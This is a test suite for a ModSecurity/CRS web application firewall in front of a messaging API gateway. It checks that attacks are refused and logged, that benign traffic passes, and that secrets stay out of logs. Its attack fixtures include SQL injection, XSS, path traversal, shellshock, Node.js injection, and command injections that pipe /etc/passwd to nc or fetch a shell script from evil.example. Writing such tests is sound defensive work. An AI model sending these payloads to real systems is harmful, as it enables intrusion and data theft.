import { createHmac } from "node:crypto";
import { readFile } from "node:fs/promises";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { APP_SECRET, bearer, benignCorpus } from "./fixtures/benign-corpus.js";
import {
  type EdgeRequest,
  type EdgeResponse,
  OPEN_LIMITS,
  startTestEdge,
  type TestEdge,
} from "./fixtures/edge.js";

// ModSecurity + CRS as the edge renders them (blocking, default paranoia level): attacks in every part of a
// request are refused and logged with their rule; realistic traffic passes; secrets never reach a log.

let edge: TestEdge;

beforeAll(async () => {
  edge = await startTestEdge({ rateLimit: OPEN_LIMITS });
});
afterAll(async () => {
  await edge?.close();
});

interface AuditEntry {
  transaction: { unique_id: string; messages: { details: { ruleId: string } }[] };
}

/** nginx writes the audit and access logs in its log phase, after the answer went out: wait for the line. */
async function auditEntry(requestId: string, target: TestEdge = edge): Promise<AuditEntry | undefined> {
  for (let attempt = 0; attempt < 50; attempt++) {
    // Only whole lines: nginx may be writing the last one right now.
    const lines = (await target.auditLog()).split("\n").slice(0, -1).filter(Boolean);
    const entry = lines
      .map((l) => JSON.parse(l) as AuditEntry)
      .find((e) => e.transaction.unique_id === requestId);
    if (entry) return entry;
    await sleep(40);
  }
  return undefined;
}

/** A broken copy of the rendered files: `from` replaced by `to` in the one file holding it (throws if none does). */
function replacedIn(
  files: Record<string, string>,
  from: string | RegExp,
  to: string,
): Record<string, string> {
  const holding = Object.keys(files).filter((path) => (files[path] ?? "").search(from) >= 0);
  if (holding.length !== 1) throw new Error(`${String(from)} is in ${holding.length} rendered files, not 1`);
  const path = holding[0] as string;
  return { ...files, [path]: (files[path] as string).replace(from, to) };
}

const post = (path: string, body: unknown, headers: Record<string, string> = {}): EdgeRequest => ({
  method: "POST",
  path,
  headers: { "content-type": "application/json", authorization: bearer(1), ...headers },
  body: JSON.stringify(body),
});

const attacks: { name: string; family: string; request: EdgeRequest }[] = [
  {
    name: "SQL injection in the query string",
    family: "942",
    request: { path: "/v1/messages/abc?status=1%27%20OR%20%271%27%3D%271" },
  },
  {
    name: "SQL injection in a JSON value",
    family: "942",
    request: post("/v1/messages", { to: "+15551234567", text: "x' UNION SELECT password FROM users--" }),
  },
  {
    name: "SQL injection in the Referer header",
    family: "942",
    request: { path: "/v1/replies", headers: { referer: "https://example.com/?id=1' or '1'='1' --" } },
  },
  {
    name: "XSS in a JSON value",
    family: "941",
    request: post("/v1/replies", {
      match: { type: "exact", value: "hi" },
      reply: { text: "<script>alert(document.cookie)</script>" },
    }),
  },
  {
    // The XSS rules do not read json.to (the gateway accepts only an E.164 number there); the others still do.
    name: "SQL injection in json.to, the field the XSS rules leave to the gateway's schema",
    family: "942",
    request: post("/v1/messages", {
      type: "text",
      to: "1' UNION SELECT password FROM users--",
      text: { body: "hi" },
    }),
  },
  {
    // 920450 is skipped when no restricted header is present (rules 10140/10141): with one, it runs.
    name: "a restricted header (Proxy: httpoxy)",
    family: "920450",
    request: { path: "/v1/messages/x", headers: { proxy: "http://evil.example:3128" } },
  },
  {
    name: "XSS in the query string",
    family: "941",
    request: { path: "/v1/replies?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E" },
  },
  {
    name: "path traversal in a JSON value",
    family: "930",
    request: post("/v1/webhooks", { url: "file:///../../../../etc/passwd", events: ["message.received"] }),
  },
  {
    name: "path traversal in the path",
    family: "930",
    request: { path: "/v1/messages/..%5c..%5c..%5cwindows%5cwin.ini" },
  },
  {
    name: "command injection in a JSON value",
    family: "932",
    request: post("/v1/messages", { to: "+15551234567", text: "hello; cat /etc/passwd | nc 10.0.0.1 4444" }),
  },
  {
    name: "command injection in the query string",
    family: "932",
    request: { path: "/v1/messages/x?host=127.0.0.1%3Bwget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O-%7Csh" },
  },
  {
    name: "shellshock in a header",
    family: "932",
    request: {
      path: "/v1/messages/x",
      headers: { "x-client-info": "() { :; }; /bin/bash -c 'cat /etc/passwd'" },
    },
  },
  {
    name: "Node.js injection in a JSON value",
    family: "934",
    request: post("/v1/messages", {
      to: "+15551234567",
      text: '_$$ND_FUNC$$_function (){require("child_process").exec("id")}()',
    }),
  },
  {
    name: "scanner user agent (sqlmap)",
    family: "913",
    request: {
      path: "/v1/messages/x",
      headers: { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" },
    },
  },
  {
    name: "scanner user agent (Nikto)",
    family: "913",
    request: {
      path: "/healthz",
      headers: { "user-agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)" },
    },
  },
];

describe("nginx's allocator", () => {
  it("master and workers run with jemalloc preloaded, as nginx.service starts them on the VM", async () => {
    const pid = edge.nginx.pid;
    const workers = (await readFile(`/proc/${pid}/task/${pid}/children`, "utf8")).trim().split(/\s+/);
    expect(workers.length).toBeGreaterThan(0);
    for (const p of [String(pid), ...workers])
      expect(await readFile(`/proc/${p}/maps`, "utf8")).toMatch(/\/libjemalloc\.so\.2$/m);
  });
});

describe("attacks are refused with 403 and the rule in the logs", () => {
  for (const attack of attacks) {
    it(attack.name, async () => {
      const before = edge.upstream.received.length;
      const res = await edge.send(attack.request);
      expect(res.status).toBe(403);
      expect(edge.upstream.received.length).toBe(before);
      const requestId = String(res.headers["x-request-id"]);
      const entry = await auditEntry(requestId);
      const ruleIds = entry?.transaction.messages.map((m) => m.details.ruleId) ?? [];
      expect(
        ruleIds.some((id) => id.startsWith(attack.family)),
        `rules ${ruleIds.join(",")}`,
      ).toBe(true);
      const errorLog = await edge.errorLog();
      const line = errorLog.split("\n").find((l) => l.includes(`[unique_id "${requestId}"]`));
      expect(line).toMatch(/Access denied with code 403.*\[id "949110"\]/);
      const access = await edge.accessEntry(requestId);
      expect(access).toMatchObject({ edge: "waf", status: 403, upstream_status: "" });
    });
  }
});

describe("realistic traffic passes", () => {
  it("a corpus of at least 200 benign API requests: 0 false positives", { timeout: 120_000 }, async () => {
    const corpus = benignCorpus();
    expect(corpus.length).toBeGreaterThanOrEqual(200);
    const refused: { name: string; res: EdgeResponse }[] = [];
    for (const { name, request } of corpus) {
      const res = await edge.send(request);
      if (res.status !== 200) refused.push({ name, res });
    }
    const detail: string[] = [];
    for (const { name, res } of refused) {
      const entry = await auditEntry(String(res.headers["x-request-id"]));
      detail.push(
        `${name}: ${res.status} ${entry?.transaction.messages.map((m) => m.details.ruleId).join(",")}`,
      );
    }
    console.log(`benign corpus: ${corpus.length} requests, ${refused.length} false positives`);
    expect(detail).toEqual([]);
  });
});

describe("Meta's webhook", () => {
  const scary =
    "Hi! My name is Robert'); DROP TABLE students;-- and I typed <script>alert('xss')</script> lol";
  const webhook = (signed: boolean) => {
    const body = JSON.stringify({
      object: "whatsapp_business_account",
      entry: [
        {
          id: "1",
          changes: [
            {
              field: "messages",
              value: {
                messages: [{ from: "15551234567", id: "wamid.X1", type: "text", text: { body: scary } }],
              },
            },
          ],
        },
      ],
    });
    const headers: Record<string, string> = { "content-type": "application/json" };
    if (signed)
      headers["x-hub-signature-256"] =
        `sha256=${createHmac("sha256", APP_SECRET).update(body).digest("hex")}`;
    return { body, request: { method: "POST", path: "/webhooks/whatsapp", headers, body } };
  };

  it("a signed delivery reaches the gateway whatever the user typed", async () => {
    const { body, request } = webhook(true);
    const res = await edge.send(request);
    expect(res.status).toBe(200);
    expect(edge.upstream.received.at(-1)?.body.toString()).toBe(body);
  });

  it("the same body without a signature is inspected, and refused", async () => {
    const res = await edge.send(webhook(false).request);
    expect(res.status).toBe(403);
  });

  it("a signed delivery with a query string is inspected in full", async () => {
    const { request } = webhook(true);
    const res = await edge.send({ ...request, path: "/webhooks/whatsapp?x=1" });
    expect(res.status).toBe(403);
  });

  it("a signed delivery still gets CRS's phase-1 checks, and is blocked on them", async () => {
    const { request } = webhook(true);
    // A charset outside the policy is a critical finding of phase 1 (920480).
    const res = await edge.send({
      ...request,
      headers: { ...request.headers, "content-type": "application/json; charset=utf-7" },
    });
    expect(res.status).toBe(403);
    const ruleIds = (await auditEntry(String(res.headers["x-request-id"])))?.transaction.messages.map(
      (m) => m.details.ruleId,
    );
    expect(ruleIds).toEqual(expect.arrayContaining(["920480", "10130"]));
  });
});

/**
 * Sends a refused OTP verification carrying a bearer token and a code, waits until nginx has written this request's
 * audit and access entries (its log phase runs after the answer went out), then says which of the two any log
 * holds.
 */
async function credentialsInLogs(target: TestEdge): Promise<string[]> {
  const token = bearer(4242);
  const code = "739164";
  const res = await target.send(
    post("/v1/otp/verify", { to: "+15551234567' OR '1'='1", code }, { authorization: token }),
  );
  expect(res.status).toBe(403);
  const requestId = String(res.headers["x-request-id"]);
  expect(await auditEntry(requestId, target), "the audit entry of the refused request").toBeDefined();
  expect(await target.accessEntry(requestId), "the access entry of the refused request").toBeDefined();
  const logs =
    (await target.auditLog()) + (await target.errorLog()) + JSON.stringify(await target.accessLog());
  const signature = token.split(".").at(-1) ?? "";
  expect(signature.length).toBeGreaterThan(20);
  return [
    ...(logs.includes(signature) ? ["the token's signature"] : []),
    ...(logs.includes(code) ? ["the OTP code"] : []),
  ];
}

describe("logs never hold credentials", () => {
  it("the bearer token and the OTP code stay out of the audit, error and access logs", async () => {
    expect(await credentialsInLogs(edge)).toEqual([]);
  });

  it("the check finds them in a broken copy whose audit log keeps request headers and body (parts B and C)", async () => {
    const leaky = await startTestEdge({
      rateLimit: OPEN_LIMITS,
      weaken: (files) => replacedIn(files, "SecAuditLogParts AHZ", "SecAuditLogParts ABCHZ"),
    });
    try {
      expect(await credentialsInLogs(leaky)).toEqual(["the token's signature", "the OTP code"]);
    } finally {
      await leaky.close();
    }
  });

  it("an attack inside the Authorization header is not read by the WAF (the gateway verifies the token)", async () => {
    const res = await edge.send({
      path: "/v1/messages/x",
      headers: { authorization: "Bearer ' OR 1=1 --<script>" },
    });
    expect(res.status).toBe(200);
    // The audit log is written in the same log phase as the access log: once this request's line is there, so is
    // any audit entry it caused.
    expect(await edge.accessEntry(String(res.headers["x-request-id"]))).toBeDefined();
    const logs = (await edge.auditLog()) + (await edge.errorLog());
    expect(logs).not.toContain("OR 1=1 --<script>");
  });

  // The rules that read every header (930110 path traversal, 932170 shellshock, ...) would refuse these values
  // in any other header; ModSecurity 3.0.9 matches an excluded header name case-sensitively, so both spellings
  // clients use are excluded (HTTP/2 and Node send lower case).
  for (const name of ["authorization", "Authorization"]) {
    it(`a header-wide rule does not read "${name}" either`, async () => {
      const value = "Bearer ../../../../etc/passwd () { :; }; /bin/cat";
      const res = await edge.send({ path: "/v1/messages/x", headers: { [name]: value } });
      expect(res.status).toBe(200);
      // No rule matched it: no error-log line and no audit entry for this request (read once it is logged).
      const requestId = String(res.headers["x-request-id"]);
      expect(await edge.accessEntry(requestId)).toBeDefined();
      const logs = (await edge.auditLog()) + (await edge.errorLog());
      expect(requestId.length).toBeGreaterThan(10);
      expect(logs).not.toContain(requestId);
      // The same value in another header is refused: the rules do run.
      const control = await edge.send({ path: "/v1/messages/x", headers: { "x-client-info": value } });
      expect(control.status).toBe(403);
    });
  }
});

describe("the broadcast body exclusion covers POST /v1/broadcasts without a query string, and nothing else", () => {
  const attack = "x' UNION SELECT password FROM users--";
  const body = JSON.stringify({
    name: attack,
    template: { name: "spring_sale", language: "en_US" },
    recipients: ["+15551234567"],
  });
  const json = { "content-type": "application/json" };
  /** Every other way to reach the broadcast routes with the attack: each must be inspected, and refused. */
  const probes: EdgeRequest[] = [
    { method: "POST", path: "/v1/broadcasts?x=1", headers: json, body },
    { method: "POST", path: "/v1/broadcasts/", headers: json, body },
    { method: "PATCH", path: "/v1/broadcasts", headers: json, body },
    { method: "POST", path: "/v1/broadcasts/b_0123456789/cancel", headers: json, body },
    { method: "GET", path: `/v1/broadcasts/b_0123456789?name=${encodeURIComponent(attack)}` },
    // On the excluded request itself ModSecurity 3.0.9 skips phase 2 (no body read), so CRS's header rules of
    // phase 2 (scanner user agents, injections in headers) do not run there; what phase 1 finds still blocks
    // (rule 10130), such as a charset outside the policy (920480).
    {
      method: "POST",
      path: "/v1/broadcasts",
      headers: { "content-type": "application/json; charset=utf-7" },
      body,
    },
  ];
  const label = (r: EdgeRequest) =>
    `${r.method} ${r.path}${r.headers?.["content-type"]?.includes("utf-7") ? " (charset utf-7)" : ""}`;

  /** The probes the edge let through to the gateway (or answered otherwise than 403 with a CRS rule logged). */
  async function uninspected(target: TestEdge): Promise<string[]> {
    const passed: string[] = [];
    for (const probe of probes) {
      const before = target.upstream.received.length;
      const res = await target.send(probe);
      const entry =
        res.status === 403 ? await auditEntry(String(res.headers["x-request-id"]), target) : undefined;
      const crs = entry?.transaction.messages.some((m) => /^9[0-9]{5}$/.test(m.details.ruleId)) ?? false;
      if (res.status !== 403 || target.upstream.received.length !== before || !crs)
        passed.push(`${label(probe)}: ${res.status}`);
    }
    return passed;
  }

  it("the excluded request itself reaches the gateway with the same body (the exclusion exists)", async () => {
    const res = await edge.send({ method: "POST", path: "/v1/broadcasts", headers: json, body });
    expect(res.status).toBe(200);
    expect(edge.upstream.received.at(-1)?.body.toString()).toBe(body);
  });

  it("a query string, another path under /v1/broadcasts, another method, the query, phase 1: refused", async () => {
    expect(await uninspected(edge)).toEqual([]);
  });

  it("the check finds the holes in a broken copy that excludes every broadcast request's body", async () => {
    const wide = await startTestEdge({
      rateLimit: OPEN_LIMITS,
      weaken: (files) =>
        replacedIn(
          files,
          /SecRule REQUEST_FILENAME "@streq \/v1\/broadcasts"[\s\S]*?setvar:tx\.wagate_body_not_inspected=1"/,
          'SecRule REQUEST_FILENAME "@beginsWith /v1/broadcasts" "id:10120,phase:1,pass,nolog,t:none,ctl:requestBodyAccess=Off,setvar:tx.wagate_body_not_inspected=1"',
        ),
    });
    try {
      const holes = await uninspected(wide);
      expect(holes).toEqual(
        expect.arrayContaining([
          "POST /v1/broadcasts?x=1: 200",
          "POST /v1/broadcasts/: 200",
          "POST /v1/broadcasts/b_0123456789/cancel: 200",
          // Without a body read, ModSecurity skips phase 2: even the query string goes unread.
          expect.stringMatching(/^GET \/v1\/broadcasts\/b_0123456789\?name=.*: 200$/),
        ]),
      );
      // Phase 1 still blocks there.
      expect(holes.join("\n")).not.toMatch(/utf-7/);
    } finally {
      await wide.close();
    }
  });
});
